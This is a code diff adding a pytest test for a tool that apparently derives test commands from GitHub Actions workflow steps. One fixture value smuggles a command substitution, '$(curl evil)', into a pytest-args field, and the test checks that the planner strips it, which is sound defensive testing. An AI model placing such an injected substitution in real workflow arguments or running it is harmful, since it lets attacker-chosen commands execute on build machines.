@@ -43,6 +43,21 @@ def test_lock_lines_the_index_cannot_serve_are_left_out_and_named(tmp_path):
         "-e ../Nuitka", "-e /opt/elsewhere", "foo @ git+https://example.org/foo"]
 
 
+def test_a_published_pytest_action_is_read_as_the_pytest_line_it_runs():
+    """SWE-ReX runs its suite through sjvrijn/pytest-last-failed with `pytest-args`."""
+    steps = [{"uses": "actions/setup-python@v5", "with": {"python-version": "3.11"}},
+             {"run": "uv pip install '.[dev]'"},
+             {"name": "Run pytest", "uses": "sjvrijn/pytest-last-failed@v2",
+              "with": {"pytest-args": '--cov swerex -k "not cloud" $(curl evil)'}}]
+    chosen = plan(ProjectFacts(frozenset({"pyproject.toml"}), {},
+                               {".github/workflows/t.yml": {"jobs": {"test": {"steps": steps}}}}))
+    assert chosen.pytest_args == ("-k", "not cloud")
+    assert "step 'Run pytest'" in chosen.followed and "curl" not in chosen.script
+    other = [{"uses": "codecov/codecov-action@v4", "with": {"args": "-k x"}}]
+    assert plan(ProjectFacts(frozenset(), {}, {"w.yml": {"jobs": {"t": {"steps": other}}}})
+                ).pytest_args == ()
+
+
 def test_without_ci_a_uv_lock_installs_all_extras_and_says_so():
     chosen = plan(ProjectFacts(frozenset({"uv.lock"})))
     assert "--all-extras" in chosen.script and "no CI workflow" in chosen.followed
